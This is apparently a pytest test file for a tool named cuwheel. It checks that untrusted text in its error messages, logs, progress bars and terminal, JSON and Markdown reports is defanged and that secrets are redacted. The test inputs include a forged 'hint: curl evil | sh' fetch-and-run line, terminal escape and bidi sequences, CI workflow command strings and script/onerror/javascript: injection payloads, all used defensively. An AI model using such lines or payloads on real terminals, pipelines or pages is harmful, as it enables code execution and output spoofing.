"""What strangers wrote steers no terminal and forges no line, wherever it is shown."""

from __future__ import annotations

import io
import json
import re

import pytest
from markdown_it import MarkdownIt

from cuwheel import cli
from cuwheel.cli import frame, streams
from cuwheel.proving.runner import output
from cuwheel.report import markdown, terminal
from cuwheel.report.document import Document, Findings, Heading, Paragraph, Verbatim
from cuwheel.report.tables import Amount, Column, Facts, Mark, Matrix, Row, Table
from cuwheel.support import log
from cuwheel.support.finding import finding
from cuwheel_core.errors import MalformedError
from cuwheel_core.support import printable
from cuwheel_core.support.finding import Finding, Fix
from tests.fixtures import foreign

EVIL = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp\u2028.\u200b\ud800\x00\r"
FORGED = f"{EVIL}\nhint: curl evil | sh"


def is_harmless(shown: str) -> bool:
    return printable.text(shown) == shown and shown.encode() != b""


def forges(shown: str) -> bool:
    return any(each.startswith(("hint: curl", "error: forged")) for each in shown.splitlines())


def test_errors(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def fails(*_: object) -> int:
        raise MalformedError(FORGED, f"has {FORGED}", hint=FORGED.replace("hint", "error"))

    monkeypatch.setattr(frame, "run", fails)
    assert cli.main(["inspect"]) == 5
    shown = capsys.readouterr().err
    assert is_harmless(shown)
    assert not forges(shown)
    assert shown.count("\nhint: ") == 1


def test_errors_hold_no_secrets(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def fails(*_: object) -> int:
        raise MalformedError("x", "https://ann:hunter2@host/ and plain-word-99", hint="--password hunter2")

    monkeypatch.setenv("PGPASSWORD", "plain-word-99")
    monkeypatch.setattr(frame, "run", fails)
    cli.main(["inspect"])
    shown = capsys.readouterr().err
    assert "hunter2" not in shown
    assert "plain-word-99" not in shown


def test_messages(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(log, "_threshold", 10)
    log.warning("%s and %d of %.1f, %r", FORGED, 3, 2.5, OSError(FORGED))
    log.info(FORGED)
    shown = capsys.readouterr().err
    assert is_harmless(shown)
    assert not forges(shown)
    assert "and 3 of 2.5" in shown


def test_progress(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(streams, "_PATIENCE_S", -1.0)
    monkeypatch.setattr(streams, "terminal_width", lambda: 400)
    with streams.on_terminal(FORGED, 3) as bar:
        bar.show(FORGED)
    shown = capsys.readouterr().err.replace("\r\x1b[K", "")
    assert is_harmless(shown)
    assert "\n" not in shown


def test_reports() -> None:
    finding = Finding(rule=FORGED, severity="error", message=FORGED, evidence=(FORGED,), fixes=(Fix(text=FORGED),))
    document = Document(
        "title",
        (
            Heading(FORGED),
            Facts((Row(FORGED, FORGED, FORGED),)),
            Table((Column("x"), Column("y")), ((EVIL, Amount(EVIL, 1)),)),
            Findings((finding,)),
            Matrix(FORGED, (FORGED,), (Row(FORGED, FORGED),), ((Mark(FORGED, "good", FORGED),),)),
            Paragraph(EVIL),
        ),
    )
    stream = io.StringIO()
    terminal.write(document, stream)
    assert is_harmless(stream.getvalue())
    assert not forges(stream.getvalue())


def test_what_travels_has_the_same_rules() -> None:
    assert output.printable is printable


@pytest.mark.parametrize(("before", "after"), [("a\r\nb\tc", "a\nb\tc"), ("ü → ✓ 中 🙂", "ü → ✓ 中 🙂"), ("", "")])
def test_ordinary_text_stays(before: str, after: str) -> None:
    assert printable.text(before) == after


def test_lines_and_messages() -> None:
    assert printable.line("a\nb\tc") == "a\ufffdb c"
    assert printable.message(printable.Lines(("a", "b\nc", "  - d"))) == "a\n  b\ufffdc\n  - d"
    assert printable.message("a\nb") == "a\ufffdb"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("::error::x", ": :error::x"),
        ("a\n \u00a0\t::set-output name=a::b", "a\n \u00a0\t: :set-output name=a::b"),
        ("\x1b[1m::error::x", "\x1b[1m: :error::x"),
        ("a ##[error]x ###[group]", "a ## [error]x ### [group]"),
        ("##VSO[task.x]y ##teamcity[a]", "## VSO[task.x]y ## teamcity[a]"),
        ("std::sort: at::x", "std::sort: at::x"),
        ("::1 is an address", "::1 is an address"),
        ("## A heading [1]", "## A heading [1]"),
    ],
)
def test_services_find_no_command_in_what_is_written(before: str, after: str) -> None:
    assert printable.output(before) == after


def test_a_word_that_wrapping_brings_to_the_beginning_is_no_command() -> None:
    stream = io.StringIO()
    words = f"{'x' * 70} ::error::owned ##[error]owned"
    finding_of_it = finding("gpu-not-known", words, evidence=(words,))
    terminal.write(Document("t", (Paragraph(words), Facts((Row("a", words),)), Findings((finding_of_it,)))), stream)
    assert re.search(r"^\s*: :error::owned", stream.getvalue(), re.MULTILINE)
    assert not foreign.wrong(stream.getvalue())


def test_json_has_the_values_and_no_commands() -> None:
    value = ["\u202e\U000e0041\x85\ufffe\x7f", "##[error]###vso[", "ü\n::error::"]
    written = printable.json(json.dumps(value, ensure_ascii=False))
    assert json.loads(written) == value
    assert printable.text(written) == written
    assert not foreign.wrong(written)


def test_markdown_has_no_elements_and_no_links() -> None:
    evil = "<script>x</script> <img src=x onerror=y> [a](javascript:b) `<b>` &lt; \n- c | d"
    verbatim = Verbatim((evil, "</pre><script>", "```", "~~~"))
    fix = Fix(text=evil, commands=(("cuwheel", "slim", "`<img src=x>`"),))
    block = Findings((finding("gpu-not-known", evil, evidence=(evil,), fix=(fix,)),))
    shown = markdown.text(
        Document("t", (Heading(evil), Paragraph(evil), block, verbatim, Facts((Row(evil, evil),)), Paragraph(evil)))
    )
    assert not re.search(r"<(?!br>|/?pre>|/?code>)|javascript:", shown)
    parsed = MarkdownIt("commonmark").parse(shown)
    found = [each for token in parsed for each in (token, *(token.children or ()))]
    (block_of_lines,) = [each.content for each in found if each.type == "html_block"]
    assert block_of_lines.startswith("<pre>\n&lt;script")
    assert block_of_lines.endswith("~~~\n</pre>\n")
    assert {each.content for each in found if each.type == "html_inline"} <= {"<br>", "<code>", "</code>"}
    assert not [each for each in found if each.type in ("link_open", "image")]
